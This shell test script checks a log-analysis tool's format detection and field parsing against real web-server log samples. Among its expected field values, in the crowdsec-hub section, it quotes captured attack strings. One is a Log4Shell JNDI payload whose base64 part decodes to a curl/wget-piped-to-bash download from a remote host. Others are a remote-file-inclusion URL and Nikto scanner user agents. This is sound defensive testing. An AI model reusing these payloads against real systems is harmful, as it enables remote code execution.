# Log formats on real logs (tests/data/real, see its README.md): every
# sample is ingested, with --format auto where it is of one format and
# with the right explicit format where not, and none crashes; auto picks
# the right format; chosen lines give the right fields; malformed lines
# are counted as bad.  Then CRLF line ends, a missing final newline and
# auto's message when nothing fits.
. "$TOP/tests/cli/lib.sh"
R="$TOP/tests/data/real"
: > tested

# A rules file whose rules never match, so that rules explain shows the
# value of these fields in every format (jsonl adds them as fields).
cat > fields.rules <<'EOF'
class c
rule c remote_addr (*FAIL)
rule c client_ip (*FAIL)
rule c remote_user (*FAIL)
rule c request_method (*FAIL)
rule c request_uri (*FAIL)
rule c status (*FAIL)
rule c http_user_agent (*FAIL)
rule c http_authorization (*FAIL)
rule c http_host (*FAIL)
EOF

# The CSV of "keyaudit files" for DB: "lines bad_lines" of its one file.
# Counted from the right: the names (first) may hold commas, the ten
# columns after them never do.
lines_bad() {
	"$KEYAUDIT" files --db "$1" | tr -d '\r' | awk -F, '
	NR == 1 && ($(NF - 7) != "lines" || $(NF - 6) != "bad_lines") {
		print "header: " $0; bad = 1; exit
	}
	NR == 2 { print $(NF - 7), $(NF - 6) }
	END { if (NR < 2 && !bad) print "none" }'
}

# sample FILE FORMAT LINES BAD [EXIT]: ingest FILE (under $R) alone with
# FORMAT ("auto=NAME": auto, which must pick NAME); the files list must
# show LINES lines of which BAD bad.
sample() {
	file=$1 fmt=$2 want_lines=$3 want_bad=$4 code=${5:-0}
	db=$(echo "$file" | tr / _).db
	echo "$file" >> tested
	case $fmt in
	auto=*)
		expect_exit "$code" "$KEYAUDIT" ingest -v --max-bad 100 --db "$db" \
			--format auto "$R/$file" 2>err
		grep -q ": format ${fmt#auto=}\$" err ||
			{ cat err >&2; fail "$file: auto did not pick ${fmt#auto=}"; }
		;;
	*)
		expect_exit "$code" "$KEYAUDIT" ingest -v --max-bad 100 --db "$db" \
			--format "$fmt" "$R/$file" 2>err
		;;
	esac
	check_eq "$(lines_bad "$db")" "$want_lines $want_bad" "$file lines, bad"
}

# undetected FILE: auto finds no format, says what it tried, skips the
# file, exit 1.
undetected() {
	expect_exit 1 "$KEYAUDIT" ingest --db u.db "$R/$1" 2>err
	grep -q "cannot tell the log format: of the first [0-9]* lines, jsonl 0, s3 0, alb [0-9]*, elb 0, cloudfront 0, vhost_combined [0-9]*, combined [0-9]*, vhost_common [0-9]*, common [0-9]* parsed; give --format" err ||
		{ cat err >&2; fail "$1: auto's message"; }
}

# fields FORMAT FILE LINE NAME=VALUE...: rules explain, on line LINE of
# FILE, shows each field NAME with VALUE (escaped as explain prints it).
fields() {
	fmt=$1 file=$2 n=$3
	shift 3
	if [ "$fmt $file" != "${last_explained:-}" ]; then
		"$KEYAUDIT" rules explain --rules fields.rules --format "$fmt" \
			"$R/$file" > explain.out
		last_explained="$fmt $file"
	fi
	awk -v want="line $n:" '$0 == want {on = 1; next}
		/^line [0-9]+:$/ {on = 0} on' explain.out > one
	for kv in "$@"; do
		name=${kv%%=*}
		got=$(sed -n "s/^  field $name = \"\(.*\)\"\$/\1/p" one)
		check_eq "$got" "${kv#*=}" "$file:$n field $name"
	done
}

# bad FORMAT FILE LINE REASON: that line is refused for REASON.
bad() {
	fields "$1" "$2" "$3"
	check_eq "$(sed -n 's/^  bad line: //p' one)" "$4" "$2:$3 refused"
}

# ---- awsdocs: the S3 User Guide's example records
f=awsdocs/s3-userguide_LogFormat-example-records.log
sample $f auto=s3 5 0
# a credential-shaped value is shown as its fingerprint
canonical=$(echo 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be | "$KEYAUDIT" fingerprint)
fields s3 $f 5 requester=$canonical \
	operation=REST.PUT.OBJECT key=s3-dg.pdf http_status=200 \
	request_target=/awsexamplebucket1/s3-dg.pdf object_size=4406583 \
	signature_version=SigV4 tls_version=TLSV1.1 user_agent=S3Console/0.4 \
	error_code= access_point_arn=
fields s3 $f 3 error_code=NoSuchBucketPolicy http_status=404 \
	signature_version=SigV2

# ---- crowdsec-hub (MIT)
h=crowdsec-hub
f=$h/apache-http-probing__apache-http-probing.log
sample $f auto=common 77 0
fields common $f 77 remote_addr=172.17.0.1 status=404 \
	request_uri='/templates/Official/part_userprofile.php?template_path=http://cirt.net/rfiinc.txt?'
f=$h/apache2-http-sensitive-files__apache2-http-sensitive-files.log
sample $f auto=common 13 0
fields common $f 1 request_uri=/.htpasswd status=403
f=$h/apache2-logs__apache2-logs.log
sample $f auto=common 9 4
fields common $f 2 remote_addr=164.68.112.178 status=500 request_uri=/
bad common $f 4 "bad client, ident or user before the time"
bad common $f 8 "no [time]"
f=$h/apache2-malformed__apache2-logs.log
sample $f auto=combined 11 0
fields combined $f 1 remote_addr=1.2.3.4 status=400 \
	'request_method=\\x16\\x03\\x01\\x01' 'request_uri=\\x02' http_user_agent=
f=$h/apache_log4j2_cve-2021-44228__apache_log4j2_cve-2021-44228.log
sample $f auto=combined 5 2
fields combined $f 1 remote_addr=192.168.1.3 status=401 \
	"http_user_agent=\${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/$(echo KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0M3x8d2dldCAtcSAtTy0gNDUuMTU1LjIwNS4yMzM6NTg3NC84Mi42NC4xNDUuMTQxOjQ0Myl8YmFzaA== | "$KEYAUDIT" fingerprint)}"
bad combined $f 4 "empty line"
f=$h/aws-alb-http-bad-user-agent__aws-alb-http-bad-user-agent.log
sample $f auto=alb 4 0
fields alb $f 1 client_ip=192.168.1.100 elb_status_code=200 \
	request_uri=https://www.example.com:443/robots.txt user_agent=curl/7.46.0
f=$h/aws-alb-logs__aws-alb-logs.log
sample $f auto=alb 14 0
fields alb $f 3 type=h2 client_port=192.168.1.12:44740 client_ip=192.168.1.12 \
	target_ip=10.0.0.66 request_method=GET server_protocol=HTTP/2.0 \
	request_uri=https://10.0.2.105:773/index.html ssl_protocol=TLSv1.2 \
	trace_id=Root=1-58337327-$(echo 72bd00b0343d75b906739c42 | "$KEYAUDIT" fingerprint) domain_name= \
	matched_rule_priority=1 actions_executed=redirect \
	redirect_url=https://example.com:80/ target_status_code_list=200
f=$h/aws-cloudfront-logs__aws-cloudfront-logs.log
sample $f auto=cloudfront 1 0
fields cloudfront $f 1 c_ip=1.2.3.4 cs_method=GET sc_status=400 \
	request_uri=/testseb?query_param=42 cs_user_agent=curl/7.81.0 \
	ssl_protocol=TLSv1.3 sc_range_end=
f=$h/bunkerweb-http-malformed__bunkerweb-http-malformed.log
sample $f auto=vhost_combined 13 8
fields vhost_combined $f 2 server_name=example.com remote_addr=192.168.1.10 \
	status=400 request_uri=
bad vhost_combined $f 1 "bad client, ident or user before the time"
# BunkerWeb's own layout, with the request id
bw='nginx:$host $remote_addr - $request_id $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"'
fields "$bw" $f 5 host=example.com request_id=req005 request=HELP \
	request_method=HELP request_uri= status=400
f=$h/caddy-basic-auth-bf__caddy-logs.log
sample $f auto=jsonl 6 0
fields jsonl $f 1 remote_addr=127.0.0.1 client_ip=127.0.0.1 status=401 \
	http_user_agent=curl/7.88.1 request_uri=/ http_host=localhost:9080
f=$h/caddy-logs__caddy-logs.log
sample $f auto=jsonl 12 1
fields jsonl $f 1 remote_addr=172.17.0.1 client_ip=127.0.0.1 \
	request_method=GET http_user_agent=curl/7.74.0 status=0 remote_user=
bad jsonl $f 12 "empty line"
f=$h/envoy-http-crawl-non_statics__envoy-http-crawl-non_statics.log
sample $f auto=jsonl 41 0
fields jsonl $f 1 remote_addr=10.0.0.13 request_method=GET request_uri=/page-01
f=$h/envoy-logs__envoy.log
sample $f auto=jsonl 9 3
fields jsonl $f 1 remote_addr=10.0.0.12 request_method=GET status=200 \
	request_uri=/assets/image.webp http_host=www.example.com \
	'http_user_agent=Mozilla/4.0 (Windows NT 9.0; Win64; x64; rv:136.0) Gecko/20101 Firefox/136.0'
bad jsonl $f 4 "no JSON object"
f=$h/gitlab-bf__gitlab-bf.log
sample $f auto=jsonl 17 0
fields jsonl $f 1 remote_addr=1.1.1.1 request_method=POST \
	request_uri=/users/sign_in status=0
f=$h/http-bf-wordpress-bf__http-bf-wordpress-bf.log
undetected $f
# nginx behind syslog: a regex format
sl='regex:^\w{3} +\d+ [\d:]+ \S+ [^:]+: (?<remote_addr>\S+) \S+ (?<remote_user>\S+) \[(?<time_local>[^]]+)\] "(?<request>[^"]*)" (?<status>\d{3}) \S+ "[^"]*" "(?<http_user_agent>[^"]*)"$'
sample $f "$sl" 10 1
fields "$sl" $f 1 remote_addr=81.150.104.130 request_method=POST \
	request_uri=/wp-login.php status=200 remote_user=
f=$h/http-dos-bypass-cache__http_dos_bypass_cache.log
sample $f auto=combined 355 0
fields combined $f 1 remote_addr=127.4.3.2 request_uri=/?8890121518 \
	http_referer=https://www.google.am/search?q=localhost/
sample $f.gz auto=combined 356 0
f=$h/http-dos-invalid-http-versions__http-dos-invalid-http-versions.log
sample $f auto=combined 6 0
f=$h/http-dos-random-uri__http_dos_random_uri.log
sample $f auto=combined 66 0
f=$h/http-dos-switching-ua__http-dos-switching-ua.log
sample $f auto=combined 15 0
f=$h/http-wordpress_user-enum__http-wordpress_user-enum.log
sample $f auto=combined 12 0
f=$h/nginx-bad-user-agent__nginx-bad-user-agent.log
sample $f auto=combined 2 0
f=$h/nginx-http-generic-bf__nginx-http-generic-bf.log
# an nginx error log: skipped as such, whatever the format, status 0
echo "$f" >> tested
for fmt in auto combined; do
	expect_exit 0 "$KEYAUDIT" ingest --db e.db --format $fmt "$R/$f" 2>err
	grep -q "generic-bf.log: not an access log (an nginx error log), skipped" err ||
		{ cat err >&2; fail "$f: error log"; }
done
f=$h/nginx-http-malformed__nginx_http-logs.log
sample $f auto=combined 11 0
f=$h/nginx-http-path-traversal__nginx-http-path-traversal.log
sample $f auto=combined 9 0
f=$h/nginx-http-sqli-probing__nginx-http-sqli-probing.log
sample $f auto=combined 16 0
f=$h/nginx-http-xss-probing__nginx-http-xss-probing.log
sample $f auto=combined 26 0
f=$h/nginx-proxy-manager-logs__nginx-proxy-manager-logs.log
undetected $f
npm='nginx:[$time_local] $upstream_cache_status $upstream_status $status - $request_method $scheme $host "$request_uri" [Client $remote_addr] [Length $body_bytes_sent] [Gzip $gzip_ratio] [Sent-to $server] "$http_user_agent" "$http_referer"'
sample $f "$npm" 13 7
fields "$npm" $f 7 upstream_cache_status=HIT status=200 request_method=GET \
	host=example.com request_uri=/api/users remote_addr=192.168.1.100 \
	server=10.0.0.15:8080 http_referer=https://example.com/dashboard
f=$h/nginx-proxy-manager-malformed__nginx_http-logs.log
sample $f auto=combined 11 0
f=$h/nginx_http-logs__nginx_http-logs.log
sample $f auto=combined 9 5
fields combined $f 7 remote_user=user123 request_uri=/api/login
bad combined $f 8 "bad client, ident or user before the time"
f=$h/traefik_base-http-scenario__traefik_base-http-scenario.log
sample $f auto=jsonl 80 0
sample $f.gz auto=jsonl 80 0
f=$h/traefik_clf__traefik_clf.log
# fields after the combined layout: auto is not sure, counts nothing and
# gives the exact format
expect_exit 1 "$KEYAUDIT" ingest --db tr.db "$R/$f" 2>err
grep -Fq "traefik_clf.log: skipped, nothing counted: its lines have 4 fields after the combined layout, which auto-detection cannot place; give the log's format, with the names its nginx log_format gives them: --format 'nginx:\$remote_addr - \$remote_user [\$time_local] \"\$request\" \$status \$body_bytes_sent \"\$http_referer\" \"\$http_user_agent\" \$field_1 \"\$field_2\" \"\$field_3\" \$field_4'" err ||
	{ cat err >&2; fail "$f: the format to give"; }
check_eq "$(lines_bad tr.db)" "none" "$f: nothing counted"
sample $f 'nginx:$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $field_1 "$field_2" "$field_3" $field_4' 9 2
# combined, which ignores those fields, in a database of its own (the
# file met again with another format is a changed format: reformat.sh)
rm -f "$(echo "$f" | tr / _).db"
sample $f combined 9 2
fields combined $f 5 remote_addr=172.17.1.1 status= \
	'http_user_agent=Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:006607)'
f=$h/traefik_json__traefik_json.log
sample $f auto=jsonl 6 1
fields jsonl $f 1 remote_addr=172.17.0.1 remote_user= status=200 \
	request_uri=/594VAEoi.save http_user_agent=Nikto \
	http_host=test.docker.localhost
bad jsonl $f 6 "no JSON object"

# ---- elastic-beats (Apache-2.0)
e=elastic-beats
f=$e/apache-access__darwin-2.4.23.log
sample $f auto=common 6 0
fields common $f 1 remote_addr=::1 status=200 request_uri=/
fields common $f 3 request_method= request_uri= status=408 body_bytes_sent=
f=$e/apache-access__ssl-request.log
undetected $f
ssl='nginx:[$time_local] $remote_addr $ssl_protocol $ssl_cipher "$request" $body_bytes_sent'
sample $f "$ssl" 2 0
fields "$ssl" $f 2 remote_addr=81.2.69.143 ssl_protocol=TLSv1.2 \
	request_method=GET server_protocol=HTTP/1.1
f=$e/apache-access__test-vhost.log
# its only line has no newline: a file waits for it, and stdin too (a
# pipe may have been cut mid-line)
sample $f auto=vhost_combined 0 0
"$KEYAUDIT" ingest -v --db vhost-stdin.db - < "$R/$f" 2>err
grep -q ': format vhost_combined$' err || fail "vhost from stdin"
check_eq "$(lines_bad vhost-stdin.db)" "0 0" "vhost line from stdin"
f=$e/apache-access__test.log
sample $f auto=common 7 1
bad common $f 7 "bad client, ident or user before the time"
fields vhost_combined $f 7 server_name=vhost1.domaine.fr \
	remote_addr=123.123.123.123 status=200
f=$e/nginx-access__access.log
sample $f auto=combined 13 1
f=$e/nginx-access__test-with-host.log
sample $f auto=vhost_combined 10 0
fields vhost_combined $f 1 server_name=example.com remote_addr=127.0.0.1 \
	'http_x_forwarded_for=10.0.0.2, 10.0.0.1, 127.0.0.1' client_ip=10.0.0.2
fields vhost_combined $f 4 server_name=example.com server_port=80 \
	remote_addr=81.2.69.143
fields vhost_combined $f 5 remote_addr=10.2.1.185 \
	'http_x_forwarded_for=10.5.102.222, 175.16.199.1, 204.246.1.1'
fields vhost_combined $f 8 remote_addr=unix: request_method=hello
f=$e/nginx-access__test.log
sample $f auto=combined 7 0
fields combined $f 1 remote_addr=127.0.0.1 client_ip=10.0.0.2 \
	'http_x_forwarded_for=10.0.0.2, 10.0.0.1, 127.0.0.1'
fields combined $f 5 remote_addr=10.2.1.185 client_ip=10.5.102.222 \
	'http_x_forwarded_for=10.5.102.222, 199.96.1.1, 204.246.1.1' \
	http_user_agent='Amazon CloudFront'
fields combined $f 6 remote_addr=10.2.2.121 \
	client_ip=2a03:0000:10ff:f00f:0000:0000:0:8000
fields combined $f 7 request= request_method= status=400

# ---- elastic-beats x-pack (Elastic License 2.0)
x=elastic-beats-xpack
f=$x/aws-elb__application-lb-http.log
sample $f auto=alb 11 1
fields alb $f 1 elb_status_code=460 target_status_code= target_port=10.0.0.192:80 \
	request_processing_time=-1 client_ip=77.227.156.41
bad alb $f 11 "empty line"
f=$x/aws-elb__example-http.log
sample $f auto=elb 3 1
fields elb $f 2 client_ip=192.168.131.39 backend_port= elb_status_code=503 \
	request_uri=http://www.example.com:80/
f=$x/aws-s3access__s3_server_access.log
sample $f auto=s3 5 0
fields s3 $f 5 operation=BATCH.DELETE.OBJECT http_status=204 request_uri= \
	requester=arn:aws:iam::627959692251:user/jaime.soriano@elastic.co

# ---- elastic-integrations (Elastic License 2.0)
i=elastic-integrations
f=$i/apache-access__test-access-basic.log
sample $f auto=common 16 1
fields common $f 13 remote_ident=user-identity remote_user=frank \
	request_uri=/apache_pb.gif
fields common $f 16 request_method= request_uri= server_protocol=HTTP/1.0
bad common $f 15 "bad client, ident or user before the time"
f=$i/aws-cloudfront_logs__test-cloudfront.log
sample $f auto=cloudfront 14 0
bad cloudfront $f 1 "comment line"
fields cloudfront $f 4 c_ip=2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6 \
	x_edge_result_type=Hit request_uri=/index.html
f=$i/aws-elb_logs__test-alb.log
undetected $f
sample $f alb 9 7
fields alb $f 2 client_ip=67.43.156.20 elb_status_code=301 \
	classification=Acceptable classification_reason=SpaceInUri
bad alb $f 3 "not a line of this format"
f=$i/aws-s3access__test-s3-server-access.log
sample $f auto=s3 10 0
fields s3 $f 8 access_point_arn=arn:aws:s3:us-west-1:123456789012:accesspoint/example-AP \
	acl_required=Yes remote_ip= requester=svc:delivery.logs.amazonaws.com
fields s3 $f 10 operation=S3.EXPIRE.OBJECT http_status= request_uri= \
	version_id=$(echo qsEq9bDa2VyxyZ4cz0c7oBnF67VYTTij | "$KEYAUDIT" fingerprint) tls_version=
f=$i/nginx-access__test-access.log
sample $f auto=combined 14 2
f=$i/traefik-access__test-format-json.log
sample $f auto=jsonl 7 0
fields jsonl $f 6 remote_addr=175.16.199.10 status=200 request_method=GET \
	request_uri=/api/v1/study/140410210038/card/comment

# ---- lnav (BSD-2-Clause)
l=lnav
f=$l/access_log
sample $f auto=combined 2492 0
fields combined $f 1 remote_user=combatcarl@example.com status=200 \
	request_method=PUT request_uri=dolore/do/labore/consectetur/eiusmod/magna
sample $f.gz auto=combined 2492 0
f=$l/formats-access_log-samples.log
sample $f auto=common 9 5
bad common $f 3 "no [time]"
bad common $f 8 "no [time]"
fields common $f 9 request_uri=/~scottp/publish.html server_protocol=
f=$l/formats-alb_log-samples.log
sample $f auto=alb 5 0
fields alb $f 4 type=ws elb_status_code=101 user_agent=
f=$l/formats-elb_log-samples.log
sample $f auto=elb 5 0
fields elb $f 1 user_agent='test agent' request_uri=https://example.com/foo/bar?baz=1234
f=$l/formats-s3_log-samples.log
sample $f auto=s3 2 0
fields s3 $f 1 operation=WEBSITE.GET.OBJECT signature_version= \
	requester=arn:aws:iam::179580289999:user/phillip.boss
f=$l/logfile_access_log.0
sample $f auto=combined 3 0
fields combined $f 2 status=404 http_user_agent=gPXE/0.9.7
f=$l/logfile_access_log.1
sample $f auto=combined 1 0
fields combined $f 1 request= status=400
f=$l/logfile_bad_access_log.0
sample $f auto=combined 3 1
bad combined $f 2 "bad client, ident or user before the time"
f=$l/logfile_cloudflare.1
sample $f auto=jsonl 15 0
fields jsonl $f 1 remote_addr=89.163.242.206 status=200 request_uri=/
f=$l/logfile_cloudflare.json
sample $f auto=jsonl 1 0
fields jsonl $f 1 remote_addr=87.226.160.250 request_method=HEAD status=301 \
	http_user_agent= http_host=www.ripe.net
f=$l/logfile_invalid_json.json
# an application log, no access log: auto skips it
undetected $f
sample $f jsonl 5 1
bad jsonl $f 3 "not valid JSON"
f=$l/logfile_invalid_json2.json
# an application log, no access log: auto skips it
undetected $f
sample $f jsonl 3 1
f=$l/logfile_json_invalid.json
# an application log, no access log: auto skips it
undetected $f
sample $f jsonl 13 1
bad jsonl $f 5 "not valid JSON"
f=$l/logfile_regexp_access_log.0
sample $f auto=vhost_combined 2 0
fields vhost_combined $f 2 server_name=localhost server_port=443 \
	remote_addr=154.57.4.229 remote_ident=cger1e remote_user=khenry
f=$l/logfile_shop_access_log.0
# nginx's "main" layout: "$http_x_forwarded_for" after combined's fields,
# so auto is not sure (exit 1, nothing counted); combined reads it
sample $f combined 1000 0
sample $f.gz combined 1000 0
expect_exit 1 "$KEYAUDIT" ingest --db shop.db "$R/$f.gz" 2>err
grep -Fq '"$http_user_agent" "$field_1"'"'" err || { cat err >&2; fail "$f: auto"; }
f=$l/logfile_syslog_with_access_log.0
undetected $f
sample $f combined 5 5
f=$l/textfile_broken_gz.txt.gz
echo "$f" >> tested
expect_exit 1 "$KEYAUDIT" ingest --db broken.db "$R/$f" 2>err
grep -q "corrupt gzip data" err || fail "broken gzip message"

# Every sample was read.
(cd "$R" && find . -type f ! -name '*.md' ! -name 'LICENSE*' |
	sed 's|^\./||' | sort) > all
sort -u tested > tested.sorted
check_files tested.sorted all "every sample in tests/data/real is tested"

# CRLF line ends and no final newline read as the plain file does.
f=$e/nginx-access__test.log
sed 's/$/\r/' "$R/$f" > crlf.log
"$KEYAUDIT" ingest -v --db crlf.db crlf.log 2>err
grep -q ': format combined$' err || fail "CRLF: auto"
check_eq "$(lines_bad crlf.db)" "7 0" "CRLF lines"
"$KEYAUDIT" rules explain --rules fields.rules --format combined crlf.log |
	grep -q '^  field http_user_agent = "Amazon CloudFront"$' ||
	fail "CRLF: the CR is not in the last field"
printf '%s' "$(cat "$R/$f")" > nonl.log
"$KEYAUDIT" ingest --db nonl.db - < nonl.log
check_eq "$(lines_bad nonl.db)" "6 0" \
	"no final newline, from stdin: the last line waits for its end"
echo "$(wc -l < all) samples read"
